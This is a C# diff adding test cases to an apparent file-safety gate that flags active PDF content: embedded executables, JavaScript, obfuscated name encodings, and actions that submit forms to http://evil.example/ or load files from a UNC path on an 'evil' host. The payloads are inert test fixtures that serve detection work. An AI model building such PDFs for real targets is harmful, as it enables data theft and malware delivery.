@@ -60,6 +60,24 @@ internal sealed class GateTests
         yield return Case("a PDF with a dynamic form in a packed object", "activePdf", Samples.PackedPdf("5 0 <</XFA 6 0 R>>"));
         yield return Case("a PDF with 3D", "activePdf", Samples.Pdf("5 0 obj\n[<</Type/Annot/Subtype/#33D/3DD 6 0 R>>]\nendobj"));
 
+        yield return Case("a PDF with a file behind a note", "activePdf", Samples.Pdf("4 0 obj\n<</Type/Annot/Subtype/FileAttachment/FS 5 0 R>>\nendobj"));
+        yield return Case("a PDF with a file that does not say it is embedded", "activePdf", Samples.Pdf($"4 0 obj\n<</Type/Catalog/AF[5 0 R]>>\nendobj\n{Attached}\nendobj"));
+        yield return Case("a PDF with such a file in disguise", "activePdf", Samples.Pdf(Attached.Replace("/EF", "/#45F", StringComparison.Ordinal) + "\nendobj"));
+        yield return Case("a PDF with such a file named in a packed object", "activePdf", Samples.PackedPdf("5 0 <</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>"));
+        yield return Case("a PDF with such a file named in a packed object behind a remark", "activePdf", Samples.PackedPdf("5 0 <</Type/Filespec/EF%\n 6 0 R>>"));
+        yield return Case("a PDF with a dynamic form in a packed object behind a remark", "activePdf", Samples.PackedPdf("5 0 <</XFA%\n 6 0 R>>"));
+        foreach (var action in new[] { "/S/Rendition/OP 0/JS(app.alert(1))", "/S/SubmitForm/F(http://evil.example/)", "/S/ImportData/F(\\\\\\\\evil\\\\x.fdf)", "/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)", "/S/GoToE/T<</R/C>>" })
+        {
+            yield return Case($"a PDF with the action {action[..8]}", "activePdf", Samples.Pdf($"5 0 obj\n<</OpenAction<<{action}>>>>\nendobj"));
+            yield return Case($"a PDF with the action {action[..8]} in a packed object", "activePdf", Samples.PackedPdf($"5 0 <<{action}>>"));
+        }
+
+        foreach (var script in new[] { "/JS(x)", "/JS<78>", "/JS 6 0 R", "/J#53%\n(x)" })
+        {
+            yield return Case($"a PDF with a script {script}", "activePdf", Samples.Pdf($"5 0 obj\n<<{script}>>\nendobj"));
+            yield return Case($"a PDF with a script {script} in a packed object", "activePdf", Samples.PackedPdf($"5 0 <<{script}>>"));
+        }
+
         yield return Case("half a picture", "damaged", Samples.All[FileKind.Png][..20_000]);
         yield return Case("a picture with a changed byte", "damaged", Changed(Samples.All[FileKind.Png], 30_000));
         yield return Case("a picture with a program behind it", "twoFaced", [.. Samples.All[FileKind.Png], .. "MZ"u8]);
@@ -128,6 +146,7 @@ internal sealed class GateTests
     }
 
     private const string Script = "5 0 <</S /JavaScript /JS (x)>>";
+    private const string Attached = "5 0 obj\n<</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>\nendobj\n6 0 obj\n<</Length 2>>\nstream\nMZ\nendstream";
 
     private static (string Name, object Content) Types(params (string Part, string Type)[] parts) =>
         ("[Content_Types].xml", $"<Types>{string.Concat(parts.Select(p => $"<Override PartName=\"/{p.Part}\" ContentType=\"{Samples.OfficeTypes}{p.Type}\"/>"))}</Types>");
@@ -193,6 +212,10 @@ internal sealed class GateTests
             Samples.PackedPdf("5 0 <</S /GoTo>>"), Samples.PackedPdf("5 0 6 9 <</A 1>> <</URI (https://zone.example/3D/XFA/x)>>"),
             Samples.Pdf("5 0 obj\n<</Title (see /XFA and /3D \\( stream) /N 1>>\nendobj\n6 0 obj\n<</N 3/Filter/FlateDecode/Length 5>>\nstream\n /3D /XFA \nendstream\nendobj"),
             Samples.Pdf("4 0 obj\n<</Type/ObjStm/N 0/First 0/Length 0>>\nstream\n\nendstream\nendobj"),
+            Samples.Pdf("5 0 obj\n<</Font<</EFont 6 0 R/JSong 7 0 R>>/S/GoTo/GoToRight 1/SubmitForms 2/Title(see /EF<< /JS \\(x /SubmitForm /GoToR)>>\nendobj"),
+            Samples.Pdf("6 0 obj\n<</Length 60>>\nstream\nBT (/EF <</F 1>> /JS \\(x\\) /Rendition /SubmitForm /GoToR) Tj ET\nendstream\nendobj"),
+            Samples.PackedPdf("5 0 6 9 <</S/URI/URI(https://zone.example/EF/JS/x)>> <</URI(https://zone.example/JS)/EFont 1/A(/EF) /B[/GoToRight/JSong]>>"),
+            Samples.PackedPdf("5 0 <</S/Named/N/NextPage/Next<</S/URI/URI(https://zone.example/)>>>>"),
         ];
         var ofd = Samples.Ofd(
             ("Doc_0/Res/image.jpg", Samples.Jpeg()), ("Doc_0/Signs/SignedValue.dat", new byte[] { 0x30, 0x82, 1, 2, 0, 1 }), ("Doc_0/Res/font.otf", "%!PS-AdobeFont-1.0"),
